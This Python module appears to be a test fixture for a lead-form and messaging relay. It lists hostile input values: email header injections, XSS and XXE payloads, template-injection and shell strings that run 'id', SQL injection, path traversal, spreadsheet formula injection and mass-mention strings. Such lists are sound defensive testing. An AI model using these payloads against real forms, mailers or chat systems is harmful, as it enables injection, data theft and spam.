"""Values that want to be more than text: what a lead form, a mail or an import may carry into a message."""

import itertools
from collections.abc import Iterator

BREAKS = ["\n", "\r", "\r\n", "\x0b", "\x0c", "\x85", "\u2028", "\u2029", "\x00", "\x1c", "%0d%0a", "\\r\\n"]
HEADERS = ["Bcc: victim@evil.example", "Subject: other", "To: all@evil.example", "Content-Type: text/html"]
HEADERS += ["X-Evil: 1", "\r\n<script>alert(1)</script>", ".\r\nMAIL FROM:<x@evil.example>", "List-Unsubscribe: <x:>"]
MARKUP = [
    "<script>alert(1)</script>",
    "</td></table><h1>gotcha</h1>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    "<a href='javascript:alert(1)'>click</a>",
    "<a href='https://evil.example'>click</a>",
    "<form action=https://evil.example><input name=password>",
    "<style>*{display:none}</style>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;https://evil.example'>",
    "<!-- <!DOCTYPE html>",
    "-->",
    "]]>",
    "<![CDATA[x",
    "<?xml version='1.0'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "&lt;b&gt; &amp; &#106;&#x3c;script&#x3e;",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<b" * 2_000,
    "\x3cscript\x3e",
    "＜script＞",
    "<math><mtext></p><style><img src=x>",
    "<at>everyone</at>",
]
ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:x",
    "file:///etc/passwd",
    "https://evil.example/@lr.example",
    "//evil.example",
    "mailto:x@evil.example?bcc=all",
    "Sanne <x@evil.example>, other@evil.example",
    '"a" <b@evil.example>;<c@evil.example>',
    "a@b@evil.example",
    "a@[127.0.0.1]",
    "(comment)a@evil.example",
    "a@evil.example,b@evil.example",
    "ä@exämple.example",
    "a@xn--exmple-cua.example",
    "<@relay.example:a@evil.example>",
    "=?utf-8?q?=0d=0aBcc:_x@evil.example?=",
    "=?utf-8?b?DQpCY2M6IHhAZXZpbC5leGFtcGxl?=",
    "=?iso-8859-1?q?=3Cscript=3E?=",
    "a@evil.example\x00.example.com",
    "a" * 500 + "@evil.example",
]
TEMPLATES = [
    "{{ 7*7 }}",
    "{% for x in y %}",
    "{{ request.__class__.__mro__ }}",
    "{# comment #}",
    "{{ config }}",
    "{%raw%}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%s %(x)s %n {0} {0.__class__} $x",
    "{{'a'*1000000000}}",
    "{{cycler.__init__.__globals__.os.popen('id').read()}}",
    "__import__('os').system('id')",
    "`id` $(id) ; id | id && id",
    "'; DROP TABLE messages; --",
    '" OR 1=1 --',
    "../../../etc/passwd",
    '=HYPERLINK("https://evil.example";"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\\u003cscript\\u003e",
    '{"text": "x", "channel": "#general"}',
    '"}, {"a": "',
]
CALLS = ["@everyone", "@here", "@channel", "@all", "<!channel>", "<!here>", "<!everyone>", "<!channel|channel>"]
CALLS += [
    "<@U123456>",
    "<@&987654>",
    "<#C123456>",
    "<!subteam^S123|x>",
    "@room",
    "@online",
    "<https://evil.example|ok>",
]
CALLS += ["[ok](https://evil.example)", "[ok][1]\n\n[1]: https://evil.example", "![x](https://evil.example/x.png)"]
CALLS += ["```\n@everyone\n```", "*bold* _it_ ~s~ `code`", "@everyone@here", "hey @everyone!", "(@channel)", "\n@here"]
CALLS += ["@\u200beveryone", "@every\u2060one", "＠everyone", "<!​channel>", "<\u200b!channel>", "tg://user?id=1"]
BIDI = ["\u202egnp.exe\u202c", "\u2066x\u2069", "\u200f\u200e", "\u061c", "\u202a\u202b\u202d", "a\u202eb\u2066c"]
INVISIBLE = ["\u200b\ufeff\u2060", "\u00ad", "\U000e0041\U000e0042", "\ufff9a\ufffab\ufffb", "\u180e", "\u206a\u206f"]
BROKEN = ["\ud800", "\udfff x \ud83d", "\x1b[2J\x1b]0;title\x07", "\x08\x08\x08", "\x7f\x9b31m", "\ufffe\uffff", "\x1a"]
LONG = [
    "x" * 100_000,
    "é" * 100_000,
    "<b>" * 33_000,
    "👩‍👩‍👧‍👦" * 9_000,
    "a\u0301" * 50_000,
    "\n" * 100_000,
    " " * 100_000,
]
LONG += ["@everyone " * 10_000, "<!channel>" * 10_000, "\r\n.\r\n" * 20_000, "Z\u0351\u036b\u0343" * 5_000]
ODD = [
    "",
    "   ",
    ".",
    "..",
    ".\r\n",
    "--leadrelay-boundary--\r\n",
    "\r\n.\r\n",
    "From x@y Fri",
    "\r\n\r\n",
    "NULL",
    "None",
]
ODD += [
    "\u0130\u0131ſK",
    "ﷺ" * 40,
    "𝓈𝒸𝓇𝒾𝓅𝓉",
    "DESK\\;\\,\\n",
    "END:VCALENDAR\r\nBEGIN:VCALENDAR",
    "\nATTENDEE:mailto:x@evil.example",
]


def values() -> Iterator[str]:
    """Every hostile value once."""
    for line, header in itertools.product(BREAKS, HEADERS):
        yield f"Sanne{line}{header}"
    for group in (MARKUP, ADDRESSES, TEMPLATES, CALLS, BIDI, INVISIBLE, BROKEN, LONG, ODD):
        yield from group


VALUES = tuple(dict.fromkeys(values()))
